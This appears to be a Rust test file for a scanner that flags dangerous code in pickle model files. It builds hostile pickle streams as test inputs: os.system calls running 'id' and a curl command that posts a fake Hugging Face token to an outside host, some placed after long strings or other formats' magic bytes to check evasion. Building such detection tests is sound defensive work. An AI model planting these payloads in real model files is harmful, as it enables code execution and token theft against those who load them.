//! Mechanism and verdict.

use std::io::Cursor;

use crate::blob::{Fact, Fragment, Kind, Limits};
use crate::extract::{Sink, extract};
use crate::finding::{Finding, Route, SkipClass};
use crate::format::pickle::builder::{call, global, mechanisms, stream, system, text};

#[derive(Default)]
struct Findings(Vec<Finding>);

impl Sink for Findings {
    fn fragment(&mut self, _: &Fragment<'_>) {}
    fn skip(&mut self, _: SkipClass, _: &Route, _: String) {}
    fn raw(&mut self) {}
    fn name(&mut self, _: &Route, _: &str) {}
    fn fact(&mut self, route: &Route, fact: &Fact<'_>) {
        super::fact("model.bin", route, fact, &mut |finding| {
            self.0.push(finding);
        });
    }
}

fn findings(bytes: &[u8]) -> Vec<Finding> {
    let mut found = Findings::default();
    let size = bytes.len() as u64;
    let kind = Kind::sniff("model.bin", &bytes[..bytes.len().min(8192)], size);
    assert_eq!(
        kind,
        Kind::Pickle,
        "{:?}",
        String::from_utf8_lossy(&bytes[..bytes.len().min(60)])
    );
    let mut reader = Cursor::new(bytes.to_vec());
    extract(&mut reader, size, kind, &Limits::default(), &mut found).unwrap();
    found.0
}

/// The worst finding, in the words of the table.
fn verdict(bytes: &[u8]) -> String {
    let worst = findings(bytes)
        .into_iter()
        .max_by_key(|finding| (finding.rule == super::DANGEROUS.id, finding.severity));
    worst.map_or("clean".to_owned(), |finding| {
        let class = finding.rule.strip_suffix("-pickle").unwrap_or_default();
        format!("{} {class}", finding.severity)
    })
}

#[test]
fn every_mechanism_has_its_verdict() {
    let wrong: Vec<String> = mechanisms()
        .into_iter()
        .map(|(what, expected, bytes)| (what, expected, verdict(&bytes)))
        .filter(|(_, expected, verdict)| expected != verdict)
        .map(|(what, expected, verdict)| format!("{what}: {verdict}, not {expected}"))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn evidence_names_the_call_and_masks_its_secrets() {
    let token = format!("hf_{}", "aB3d".repeat(8));
    let command = format!("curl -d {token} http://example.org");
    let found = findings(&stream(
        2,
        &call(&global("os", "system"), &[text(&command)]),
    ));
    let [finding] = &found[..] else {
        panic!("{} findings", found.len());
    };
    assert_eq!(
        finding.evidence,
        ["calls os.system('curl -d hf_a…(35) http://example.org') at byte 79 (REDUCE)"]
    );
}

#[test]
fn many_calls_are_one_finding_with_the_worst_first() {
    let unknown = (0..50).map(|n| call(&global("mylib", &format!("f{n}")), &[]));
    let body = [unknown.collect::<Vec<_>>().concat(), system(), system()].concat();
    let found = findings(&stream(2, &body));
    let lines: Vec<usize> = found.iter().map(|finding| finding.evidence.len()).collect();
    assert_eq!(lines, [1, 9]);
    assert!(found[0].evidence[0].ends_with("(REDUCE), 2 times"));
    assert_eq!(found[1].evidence[8], "and 42 more");
}

#[test]
fn a_long_string_first_hides_nothing() {
    let long = "a".repeat(20_000);
    let call = b"0cos\nsystem\n(S'id'\ntR.";
    let length = (long.len() as u32).to_le_bytes();
    for opening in [
        [b"X", &length[..], long.as_bytes()].concat(),
        format!("V{long}\n").into_bytes(),
        format!("S'{long}'\n").into_bytes(),
        format!("F1.{}\n", "0".repeat(9000)).into_bytes(),
        [&b"N0".repeat(6000)[..], b"N"].concat(),
    ] {
        assert_eq!(
            verdict(&[&opening[..], call].concat()),
            "critical dangerous"
        );
    }
}

#[test]
fn magic_numbers_of_other_formats_hide_nothing() {
    let call = b"0cos\nsystem\n(S'id'\ntR.";
    for magic in [
        &b"GGUF\x03\0\0\0\0"[..],
        b"G\0\0\0TFL3\0",
        b"G\0\0\0\0\0\0\0{}0N",
        b"GIF89a\0\0\0",
        b"MZ\x90",
    ] {
        let file = [magic, call, &[b' '; 80]].concat();
        assert_eq!(verdict(&file), "critical dangerous", "{magic:?}");
    }
}
